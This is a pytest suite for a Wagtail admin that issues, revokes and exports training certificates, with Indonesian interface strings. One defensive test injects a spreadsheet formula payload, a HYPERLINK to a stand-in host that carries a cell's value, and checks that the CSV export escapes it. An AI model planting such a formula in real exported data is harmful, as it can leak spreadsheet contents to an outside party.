"""The officers' side in the Wagtail admin, checked per role."""

import csv
import datetime
import io
import zipfile

import pytest
from django.contrib.auth.models import Group
from django.urls import NoReverseMatch, reverse
from django.utils import timezone
from wagtail.models import ModelLogEntry

from certificates.choices import CertificateStatus
from certificates.models import Certificate, CertificateTemplate
from certificates.services import revoke_certificate
from people.choices import Role

from .conftest import COURSE_TITLE, pdf_text

pytestmark = pytest.mark.django_db

INDEX = "certificates_admin:index"


def test_roles_hold_the_agreed_permissions():
    officer = set(Group.objects.get(name=Role.OFFICER).permissions.values_list("codename", flat=True))
    assert {
        "add_certificatetemplate",
        "change_certificatetemplate",
        "view_certificate",
        "issue_certificate",
        "revoke_certificate",
        "download_certificate",
    } <= officer
    trainer = set(Group.objects.get(name=Role.TRAINER).permissions.values_list("codename", flat=True))
    assert "view_certificatetemplate" in trainer and "view_certificate" not in trainer
    participant = Group.objects.get(name=Role.PARTICIPANT).permissions.filter(
        content_type__app_label="certificates"
    )
    assert not participant.exists()


def test_officers_list_and_filter_certificates(
    client, officer, participant, other_participant, issue, course_page
):
    from wagtail.models import Page

    other_page = Page.objects.get(depth=1).add_child(instance=Page(title="Kursus TPPO", slug="kursus-tppo"))
    mine = issue(participant)
    theirs = issue(other_participant, page=other_page)
    revoke_certificate(certificate=theirs, by=officer, reason="Uji")
    client.force_login(officer)
    html = client.get(reverse(INDEX)).content.decode()
    assert mine.number in html and theirs.number in html
    subject_key = f"{mine.subject_type_id}:{mine.subject_id}"
    html = client.get(reverse(INDEX), {"subject": subject_key}).content.decode()
    assert mine.number in html and theirs.number not in html
    html = client.get(reverse(INDEX), {"status": "revoked"}).content.decode()
    assert theirs.number in html and mine.number not in html
    kecamatan = participant.profile.kecamatan
    assert mine.kecamatan == kecamatan
    html = client.get(reverse(INDEX), {"institution": participant.profile.institution_id}).content.decode()
    assert mine.number in html and theirs.number not in html
    html = client.get(reverse(INDEX), {"kecamatan": kecamatan.pk, "status": "valid"}).content.decode()
    assert mine.number in html and theirs.number not in html
    html = client.get(reverse(INDEX), {"q": "Budi"}).content.decode()
    assert theirs.number in html and mine.number not in html
    tomorrow = (timezone.localdate() + datetime.timedelta(days=1)).isoformat()
    html = client.get(reverse(INDEX), {"issued_at_from": tomorrow}).content.decode()
    assert mine.number not in html and theirs.number not in html
    html = client.get(reverse(INDEX), {"issued_at_to": tomorrow}).content.decode()
    assert mine.number in html and theirs.number in html


def test_spreadsheet_export(client, officer, participant, issue):
    certificate = issue(participant)
    client.force_login(officer)
    response = client.get(reverse(INDEX), {"export": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert len(rows) == 2
    assert certificate.number in rows[1] and "Siti Aminah, S.Pd." in rows[1]
    assert certificate.verification_url in rows[1]
    response = client.get(reverse(INDEX), {"export": "xlsx"})
    assert response.status_code == 200


@pytest.mark.parametrize("who", ["participant", "trainer"])
def test_the_list_is_for_officers_only(client, request, who, participant, issue):
    certificate = issue(participant)
    client.force_login(request.getfixturevalue(who))
    for url in (
        reverse(INDEX),
        reverse("certificates_admin:inspect", args=[certificate.pk]),
        reverse("certificates_admin:revoke", args=[certificate.pk]),
        reverse("certificates_admin:reissue", args=[certificate.pk]),
        reverse("certificates_admin:zip_start"),
        reverse("certificates_admin:zip"),
        reverse("certificates_admin:issue"),
    ):
        response = client.get(url)
        assert response.status_code in (302, 403), url
    assert client.post(
        reverse("certificates_admin:revoke", args=[certificate.pk]), {"reason": "x"}
    ).status_code in (
        302,
        403,
    )
    certificate.refresh_from_db()
    assert certificate.status == CertificateStatus.VALID


def test_nobody_edits_or_deletes_an_issued_certificate(client, superuser, participant, issue):
    certificate = issue(participant)
    client.force_login(superuser)
    html = client.get(reverse("certificates_admin:inspect", args=[certificate.pk])).content.decode()
    assert certificate.number in html
    assert "Cabut" in html and "Terbitkan ulang" in html
    for name in ("add", "edit", "delete", "copy"):
        with pytest.raises(NoReverseMatch):
            reverse(f"certificates_admin:{name}", args=[certificate.pk])
    assert f"/admin/certificates_admin/edit/{certificate.pk}/" not in html


def test_officer_revokes_with_a_reason_in_the_admin(client, officer, participant, issue):
    certificate = issue(participant)
    client.force_login(officer)
    url = reverse("certificates_admin:revoke", args=[certificate.pk])
    response = client.post(url, {"reason": ""})
    assert response.status_code == 200 and "Tuliskan alasan sertifikat dicabut" in response.content.decode()
    response = client.post(url, {"reason": "Tidak hadir pada sesi akhir"})
    assert response.status_code == 302
    certificate.refresh_from_db()
    assert certificate.status == CertificateStatus.REVOKED
    history = client.get(reverse("certificates_admin:history", args=[certificate.pk])).content.decode()
    assert "Tidak hadir pada sesi akhir" in history


def test_officer_reissues_after_correcting_the_name(client, officer, participant, issue):
    certificate = issue(participant)
    participant.profile.full_name = "Siti Aminah Harahap, S.Pd."
    participant.profile.save()
    client.force_login(officer)
    url = reverse("certificates_admin:reissue", args=[certificate.pk])
    page = client.get(url).content.decode()
    assert "Siti Aminah Harahap, S.Pd." in page
    response = client.post(url, {"reason": "Nama dikoreksi"})
    assert response.status_code == 302
    certificate.refresh_from_db()
    new = certificate.replaced_by
    assert (
        certificate.status == CertificateStatus.REPLACED
        and new.recipient_name == "Siti Aminah Harahap, S.Pd."
    )
    assert ModelLogEntry.objects.filter(action="certificates.reissue", user=officer).exists()


def test_bulk_zip_has_one_file_per_person_named_by_number(
    client, officer, participant, other_participant, issue
):
    first = issue(participant)
    second = issue(other_participant)
    client.force_login(officer)
    start = client.get(reverse("certificates_admin:zip_start"), {"status": "valid"})
    assert start.status_code == 200
    html = start.content.decode()
    assert "2 sertifikat" in html
    download_url = html.split('id="zip-download" href="', 1)[1].split('"', 1)[0].replace("&amp;", "&")
    response = client.get(download_url)
    assert response.status_code == 200 and response["Content-Type"] == "application/zip"
    assert response.streaming
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    names = sorted(archive.namelist())
    assert names == sorted(
        [
            first.number.replace("/", "-") + "-Siti-Aminah-S.Pd.pdf",
            second.number.replace("/", "-") + "-Budi-Santoso.pdf",
        ]
    )
    assert first.number in pdf_text(archive.read(names[0]))
    token = download_url.split("progress=", 1)[1].split("&", 1)[0]
    progress = client.get(reverse("certificates_admin:zip_progress", args=[token])).json()
    assert progress == {"done": 2, "total": 2}


def test_bulk_zip_follows_the_filters(client, officer, participant, other_participant, issue):
    first = issue(participant)
    second = issue(other_participant)
    revoke_certificate(certificate=second, by=officer, reason="Uji")
    client.force_login(officer)
    response = client.get(reverse("certificates_admin:zip"), {"status": "valid"})
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    assert [name.split("-Siti")[0] for name in archive.namelist()] == [first.number.replace("/", "-")]


def test_template_preview_is_the_pdf_with_sample_data(client, officer, template):
    client.force_login(officer)
    edit_url = reverse("wagtailsnippets_certificates_certificatetemplate:edit", args=[template.pk])
    assert client.get(edit_url).status_code == 200
    preview_url = reverse(
        "wagtailsnippets_certificates_certificatetemplate:preview_on_edit", args=[template.pk]
    )
    form_data = _template_form_data(template, title="PIAGAM PENGHARGAAN")
    assert client.post(preview_url, form_data).json()["is_valid"] is True
    response = client.get(preview_url)
    assert response["Content-Type"] == "application/pdf"
    text = pdf_text(response.content)
    assert "PIAGAM PENGHARGAAN" in text and "Siti Aminah, S.Pd." in text and "000123" in text


def test_a_template_with_a_missing_image_gets_a_clear_error(client, officer, template):
    client.force_login(officer)
    image = template.background
    image.file.storage.delete(image.file.name)
    image.renditions.all().delete()
    edit_url = reverse("wagtailsnippets_certificates_certificatetemplate:edit", args=[template.pk])
    response = client.post(edit_url, _template_form_data(template))
    assert response.status_code == 200
    assert f"Gambar latar “{image.title}” tidak dapat dibuka" in response.content.decode()
    preview_url = reverse(
        "wagtailsnippets_certificates_certificatetemplate:preview_on_edit", args=[template.pk]
    )
    assert client.post(preview_url, _template_form_data(template)).json()["is_valid"] is False


def test_a_broken_image_file_is_explained_in_the_preview(client, officer, template):
    client.force_login(officer)
    image = template.logos.first().image
    image.renditions.all().delete()
    with image.file.storage.open(image.file.name, "wb") as handle:
        handle.write(b"this is not a picture")
    preview_url = reverse(
        "wagtailsnippets_certificates_certificatetemplate:preview_on_edit", args=[template.pk]
    )
    assert client.post(preview_url, _template_form_data(template)).json()["is_valid"] is True
    preview = client.get(preview_url)
    assert "text/html" in preview["Content-Type"]
    assert f"Logo “{image.title}” tidak dapat dibuka" in preview.content.decode()


def test_unknown_placeholders_are_refused(client, officer, template):
    client.force_login(officer)
    edit_url = reverse("wagtailsnippets_certificates_certificatetemplate:edit", args=[template.pk])
    response = client.post(edit_url, _template_form_data(template, body="Untuk {nmaa} atas {kegiatan}"))
    assert response.status_code == 200
    assert "{nmaa}" in response.content.decode()
    template.refresh_from_db()
    assert "{nmaa}" not in template.body


def test_trainers_may_see_templates_but_not_change_them(client, trainer, template):
    client.force_login(trainer)
    listing = client.get(reverse("wagtailsnippets_certificates_certificatetemplate:list"))
    assert listing.status_code == 200 and template.name in listing.content.decode()
    # ...and pick one on the course form's chooser.
    chooser = client.get(reverse("wagtailsnippetchoosers_certificates_certificatetemplate:choose"))
    assert chooser.status_code == 200 and template.name in chooser.content.decode()
    edit_url = reverse("wagtailsnippets_certificates_certificatetemplate:edit", args=[template.pk])
    response = client.post(edit_url, _template_form_data(template, title="DIUBAH"))
    assert response.status_code in (302, 403)
    template.refresh_from_db()
    assert template.title != "DIUBAH"


def test_issue_by_hand_to_chosen_participants(client, officer, participant, other_participant, template):
    from tests.courses.conftest import make_course

    course = make_course(title=COURSE_TITLE, duration_jp=6)
    key = f"{course.content_type_id}:{course.pk}"
    client.force_login(officer)
    url = reverse("certificates_admin:issue")
    form = client.get(url).content.decode()
    assert f'value="{key}"' in form and COURSE_TITLE in form
    unknown = {
        "subject": key,
        "emails": f"{participant.email}\ntidak.ada@contoh.id",
        "completed_on": "2025-11-20",
    }
    response = client.post(url, unknown)
    assert response.status_code == 200 and "tidak.ada@contoh.id" in response.content.decode()
    assert not Certificate.objects.exists()
    emails = f"{participant.email}, {other_participant.email.upper()}"
    response = client.post(url, {"subject": key, "emails": emails, "completed_on": "2025-11-20"})
    assert response.status_code == 302
    issued = Certificate.objects.order_by("pk")
    assert [c.user for c in issued] == [participant, other_participant]
    assert all(c.subject.specific == course and c.issued_by == officer for c in issued)
    assert all(c.printed["tanggal"] == "20 November 2025" and c.printed["jp"] == "6" for c in issued)
    assert ModelLogEntry.objects.filter(action="certificates.issue", user=officer).count() == 2
    again = client.post(url, {"subject": key, "emails": participant.email, "completed_on": "2025-11-21"})
    assert again.status_code == 302 and Certificate.objects.count() == 2


def test_the_dashboard_warns_about_certificates_that_could_not_be_made(
    client, officer, participant, issue, template
):
    signature = template.signatories.first().signature
    signature.renditions.all().delete()
    signature.file.storage.delete(signature.file.name)
    certificate = issue(participant)
    assert certificate.status == CertificateStatus.FAILED
    client.force_login(officer)
    html = client.get(reverse("wagtailadmin_home")).content.decode()
    assert "1 sertifikat gagal dibuat" in html
    assert reverse("certificates_admin:index") + "?status=failed" in html


def _template_form_data(template, **changes):
    data = {
        "name": template.name,
        "is_default": "on" if template.is_default else "",
        "page_size": template.page_size,
        "orientation": template.orientation,
        "background": template.background_id or "",
        "frame_style": template.frame_style,
        "accent_color": template.accent_color,
        "text_color": template.text_color,
        "heading_font": template.heading_font,
        "body_font": template.body_font,
        "title": template.title,
        "subtitle": template.subtitle,
        "intro": template.intro,
        "body": template.body,
        "place": template.place,
        "date_line": template.date_line,
        "issuer_name": template.issuer_name,
        "number_prefix": template.number_prefix,
        "qr_position": template.qr_position,
        "qr_size_mm": template.qr_size_mm,
    }
    logos = list(template.logos.all())
    data.update(
        {
            "logos-TOTAL_FORMS": len(logos),
            "logos-INITIAL_FORMS": len(logos),
            "logos-MIN_NUM_FORMS": 0,
            "logos-MAX_NUM_FORMS": 4,
        }
    )
    for index, logo in enumerate(logos):
        data.update(
            {
                f"logos-{index}-id": logo.pk,
                f"logos-{index}-image": logo.image_id,
                f"logos-{index}-ORDER": index + 1,
            }
        )
    signatories = list(template.signatories.all())
    data.update(
        {
            "signatories-TOTAL_FORMS": len(signatories),
            "signatories-INITIAL_FORMS": len(signatories),
            "signatories-MIN_NUM_FORMS": 0,
            "signatories-MAX_NUM_FORMS": 3,
        }
    )
    for index, signatory in enumerate(signatories):
        data.update(
            {
                f"signatories-{index}-id": signatory.pk,
                f"signatories-{index}-name": signatory.name,
                f"signatories-{index}-position": signatory.position,
                f"signatories-{index}-nip": signatory.nip,
                f"signatories-{index}-signature": signatory.signature_id or "",
                f"signatories-{index}-ORDER": index + 1,
            }
        )
    data.update(changes)
    return data


def test_default_template_mark_moves(template):
    other = CertificateTemplate.objects.create(name="Templat lokakarya", is_default=True)
    template.refresh_from_db()
    assert not template.is_default and CertificateTemplate.objects.default() == other


def test_export_never_hands_a_formula_to_the_officers_spreadsheet(client, officer, participant, issue):
    formula = '=HYPERLINK("http://x.example/?"&B2,"Klik")'
    participant.profile.full_name = formula
    participant.profile.save()
    issue(participant)
    client.force_login(officer)
    response = client.get(reverse(INDEX), {"export": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert "'" + formula in rows[1] and formula not in rows[1]


def test_template_list_says_when_each_template_was_changed(client, officer, template):
    """Wagtail's "updated" column reads the admin's log, empty for a template made by the demo or a migration:
    the list shows the template's own time of change, in Indonesian."""
    client.force_login(officer)
    html = client.get(reverse("wagtailsnippets_certificates_certificatetemplate:list")).content.decode()
    assert "Diperbarui" in html
    assert "yang lalu" in html  # "… menit yang lalu": Wagtail's relative time of the template's change
